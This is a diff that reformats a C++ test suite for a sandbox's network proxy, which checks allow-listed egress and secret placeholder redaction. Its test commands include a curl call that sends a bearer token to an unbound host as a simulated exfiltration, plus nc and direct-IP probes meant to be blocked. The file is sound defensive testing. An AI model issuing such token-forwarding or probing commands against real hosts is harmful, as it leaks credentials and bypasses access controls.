@@ -60,8 +60,10 @@ void upload_program(Sandbox& sb, const std::string& program) {
     std::vector<std::string> w;
     for (std::string x; words >> x;) w.push_back(x);
     std::string path;
-    if (w.size() >= 3 && w[1] == "=>" && w[2][0] == '/') path = w[2];
-    else if (!w.empty() && w[0][0] == '/') path = w[0];
+    if (w.size() >= 3 && w[1] == "=>" && w[2][0] == '/')
+      path = w[2];
+    else if (!w.empty() && w[0][0] == '/')
+      path = w[0];
     if (!path.empty()) files.emplace_back(path, path);
   }
   for (auto& [guest, host] : files) {
@@ -179,11 +181,10 @@ TEST_CASE("with allow_net real clients reach allowed hosts only and secrets stay
 
   auto t0 = std::chrono::steady_clock::now();
   upload_program(*sb, "/usr/bin/curl");
-  MESSAGE("curl + libraries uploaded in "
-          << std::chrono::duration_cast<std::chrono::milliseconds>(
-                 std::chrono::steady_clock::now() - t0)
-                 .count()
-          << " ms");
+  MESSAGE("curl + libraries uploaded in " << std::chrono::duration_cast<std::chrono::milliseconds>(
+                                                 std::chrono::steady_clock::now() - t0)
+                                                 .count()
+                                          << " ms");
 
   // The guest's environment: proxy, CA and the placeholder, never the value.
   auto env = sh(*sb, "env");
@@ -228,9 +229,8 @@ TEST_CASE("with allow_net real clients reach allowed hosts only and secrets stay
   // 2. The same transparently: no proxy variables; DNS answers the proxy's address, TLS by SNI.
   auto dns = sh(*sb, "nslookup api.example.test 2>&1");
   CHECK(dns.stdout.find("10.213.0.1") != std::string::npos);
-  auto transparent = sh(*sb,
-                        "unset HTTPS_PROXY https_proxy HTTP_PROXY http_proxy; " + kCurl +
-                            "'https://api.example.test/echo?via=transparent'");
+  auto transparent = sh(*sb, "unset HTTPS_PROXY https_proxy HTTP_PROXY http_proxy; " + kCurl +
+                                 "'https://api.example.test/echo?via=transparent'");
   INFO(transparent.stderr);
   CHECK(codes(transparent) == "000 200");
   CHECK(transparent.stdout.find("/echo?via=transparent") != std::string::npos);
@@ -242,8 +242,9 @@ TEST_CASE("with allow_net real clients reach allowed hosts only and secrets stay
 
   // 4. The secret reaches its bound host as the real value; the guest only ever sees the
   // placeholder (the proxy redacts the echoed value back).
-  auto secret = sh(*sb, kCurl + "-H \"Authorization: Bearer $API_TOKEN\" "
-                                "'https://api.example.test/echo?secret=1'");
+  auto secret = sh(*sb, kCurl +
+                            "-H \"Authorization: Bearer $API_TOKEN\" "
+                            "'https://api.example.test/echo?secret=1'");
   CHECK(codes(secret) == "200 200");
   CHECK(secret.stdout.find(kSecretValue) == std::string::npos);
   CHECK(secret.stdout.find(placeholder) != std::string::npos);
@@ -259,8 +260,9 @@ TEST_CASE("with allow_net real clients reach allowed hosts only and secrets stay
   }
 
   // 5. The placeholder sent to an allowed but unbound host: refused and audited.
-  auto exfil = sh(*sb, kCurl + "-H \"Authorization: Bearer $API_TOKEN\" "
-                               "'https://other.example.test/echo?exfil=1'");
+  auto exfil = sh(*sb, kCurl +
+                           "-H \"Authorization: Bearer $API_TOKEN\" "
+                           "'https://other.example.test/echo?exfil=1'");
   CHECK(codes(exfil) == "200 403");
   CHECK(read_text(upstream_log).find("exfil=1") == std::string::npos);
   bool exfil_audited = false;
@@ -281,8 +283,8 @@ TEST_CASE("with allow_net real clients reach allowed hosts only and secrets stay
   CHECK(ip_direct.exit_code != 0);
   auto ip_proxy = sh(*sb, kCurl + "'https://127.0.0.1:443/echo?ip=proxy'");
   CHECK(codes(ip_proxy).rfind("403", 0) == 0);
-  auto outside = sh(*sb, "unset HTTP_PROXY http_proxy; " + kCurl +
-                             "--connect-timeout 10 'http://192.0.2.1/'");
+  auto outside =
+      sh(*sb, "unset HTTP_PROXY http_proxy; " + kCurl + "--connect-timeout 10 'http://192.0.2.1/'");
   CHECK(outside.exit_code != 0);
   // TCP to other ports on the proxy's address, and to the host's loopback service.
   CHECK(sh(*sb, "nc -w 3 10.213.0.1 22 </dev/null").exit_code != 0);
@@ -293,8 +295,8 @@ TEST_CASE("with allow_net real clients reach allowed hosts only and secrets stay
   auto trap_name = sh(*sb, kCurl + "'http://localhost:" + trap + "/'");
   CHECK(codes(trap_name).find("403") != std::string::npos);
   // UDP anywhere but the DNS responder: nothing answers and nothing arrives.
-  for (const std::string& dst : std::vector<std::string>{"10.213.0.1 " + utrap, "10.213.0.1 123", "127.0.0.1 " + utrap,
-                                 "192.0.2.1 " + utrap}) {
+  for (const std::string& dst : std::vector<std::string>{
+           "10.213.0.1 " + utrap, "10.213.0.1 123", "127.0.0.1 " + utrap, "192.0.2.1 " + utrap}) {
     auto u = sh(*sb, "echo ping | nc -u -w 2 " + dst + " 2>&1; echo RC=$?");
     CHECK(u.stdout.find("ping") == std::string::npos);
   }
